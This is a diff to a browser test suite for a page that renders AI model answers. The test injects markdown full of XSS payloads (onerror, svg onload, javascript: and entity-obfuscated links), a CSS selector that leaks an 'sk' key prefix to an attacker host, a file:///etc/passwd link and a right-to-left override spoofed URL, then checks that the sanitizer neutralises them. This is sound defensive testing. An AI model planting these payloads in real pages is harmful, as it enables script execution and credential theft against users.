@@ -31,11 +31,27 @@ const text = `Common ground, and this:
 | ${"wide | ".repeat(60)}
 | ${"--- | ".repeat(60)}
 | ${"cell | ".repeat(60)}
-
+${`| ${"row | ".repeat(60)}\n`.repeat(120)}
 ${"unbroken".repeat(200)}
 
 - [x] task
-\u202Eright to left override
+
+[\u202Emoc.elpmaxe//:sptth](https://example.org/rtl) \u202Eright to left override \u2066isolated, never ended
+
+\`\`\`js" onmouseover="window.hacked='lang'
+const bidi = "\u202E"; </code></pre><img src=x onerror=window.hacked='code'>
+\`\`\`
+
+\`\`\`html
+<style>input[value^="sk"] { background: url(${EVIL}/leak) }</style><script>window.hacked = "highlighted"</script>
+\`\`\`
+
+<b style="background:url(${EVIL}/inline.png)" id="question">bold</b> <table background="${EVIL}/t.png"><tr><td>cell</td></tr></table>
+<input value="sk-" autofocus><link rel="preload" as="image" href="${EVIL}/p.png"><object data="javascript:window.hacked='object'"></object>
+![x](data:image/svg+xml,<svg onload=window.hacked='svgimg'>) <img srcset="${EVIL}/s.png 2x" lazy>
+[vb](vbscript:x) [data](data:text/html,x) [file](file:///etc/passwd) [blob](blob:x) [rel](/settings) [proto](//attacker.example/x) [js](JaVaScRiPt:window.hacked=1) [ent](java&#115;cript:window.hacked='entity')
+<https://example.org/auto> <javascript:window.hacked='auto'>
+
 <b>the end`;
 
 const cast = {
@@ -69,16 +85,17 @@ async function harmless({ open, site, room }) {
   await useOwn(page, room.baseURL, ["desk/evil", "desk/evil"], "desk/judge");
   await ask(page, "Is the sky blue?");
   await ended(page, "done");
-  await page.locator(".run details").evaluateAll((folds) => folds.forEach((fold) => (fold.open = true)));
-  await page.waitForTimeout(500);
+  await page.locator(".turn details").evaluateAll((folds) => folds.forEach((fold) => (fold.open = true)));
+  await page.waitForSelector(".hljs-tag");
+  await page.mouse.move(640, 400);
 
   equal(await page.evaluate(() => window.hacked ?? null), null, "something ran");
-  const found = await page.locator(".run").evaluate((run) => ({
-    forbidden: [...run.querySelectorAll("script, img, iframe, form, input, style, svg, math, object, embed, base, meta, link, video, template")].map(({ tagName }) => tagName),
-    // The page itself places its answer card by a style; nothing else has one.
-    attributes: [...run.querySelectorAll("*:not(.answer)")].flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on|^style$|^srcset$/.test(name)).map(({ name }) => name),
-    links: [...run.querySelectorAll("a[href]:not(.by)")].map((link) => ({ url: link.href, target: link.target, rel: link.rel })),
-    fromModel: [...run.querySelectorAll(".prose *, .quote *, .point *")].filter((node) => (node.id || node.className) && !node.closest(".badge, .mark-quote")).map(({ outerHTML }) => outerHTML.slice(0, 80)),
+  const found = await page.locator(".turn").evaluate((run) => ({
+    forbidden: [...run.querySelectorAll("script, img, iframe, form, input, style, svg:not(.icon), math, object, embed, base, meta, link, video, template")].map(({ tagName }) => tagName),
+    // The page itself places its panel by a style; nothing else has one.
+    attributes: [...run.querySelectorAll("*:not(.panel)")].flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on|^style$|^srcset$/.test(name)).map(({ name }) => name),
+    links: [...run.querySelectorAll("a[href]")].map((link) => ({ url: link.href, target: link.target, rel: link.rel })),
+    fromModel: [...run.querySelectorAll(".prose *, .quote q *, .point *, .stance *")].filter((node) => (node.id || node.className) && !node.matches(".code, .code-head, .code-head *, .table-box, .code span[class^=hljs-]")).map(({ outerHTML }) => outerHTML.slice(0, 80)),
   }));
   equal(found.forbidden, [], "elements that must not be there");
   equal(found.attributes, [], "attributes that must not be there");
@@ -90,6 +107,11 @@ async function harmless({ open, site, room }) {
   }
   includes(await page.locator(".answer .prose").innerText(), "pixel (image)", "a remote image became a link");
   includes(await page.locator(".answer .prose").innerText(), "the end", "the text goes on after it all");
+  // An override must not reach what stands beside it: each block of a model's text is a world of its own.
+  equal(await page.locator(".answer .prose > p").last().evaluate((block) => getComputedStyle(block).unicodeBidi), "isolate");
+  const boxes = await page.locator(".answer .table-box").evaluateAll((all) => all.map((box) => ({ rows: box.querySelectorAll("tr").length, scrolls: box.scrollWidth > box.clientWidth, inside: box.getBoundingClientRect().right <= innerWidth })));
+  ok(boxes.some(({ rows, scrolls }) => rows > 100 && scrolls) && boxes.every(({ inside }) => inside), `a giant table scrolls in its own frame: ${JSON.stringify(boxes)}`);
+  ok(await page.evaluate(() => [...document.styleSheets].every(({ href }) => href?.startsWith(location.origin))), "no style sheet but the page's own");
   await fits(page, "with a giant table and an unbroken word");
   await clean(page, site, room.baseURL);
 }
@@ -103,6 +125,6 @@ async function errorText({ open, site, room }) {
   await ended(page, "failed");
   includes(await page.locator(".notice.error").innerText(), "<b>bold</b>");
   includes(await page.locator(".panelist").first().innerText(), "name");
-  equal(await page.locator(".run :is(img, b, i)").count(), 0);
+  equal(await page.locator(".turn :is(img, b, i:not(.ghost i))").count(), 0);
   await clean(page, site, room.baseURL);
 }
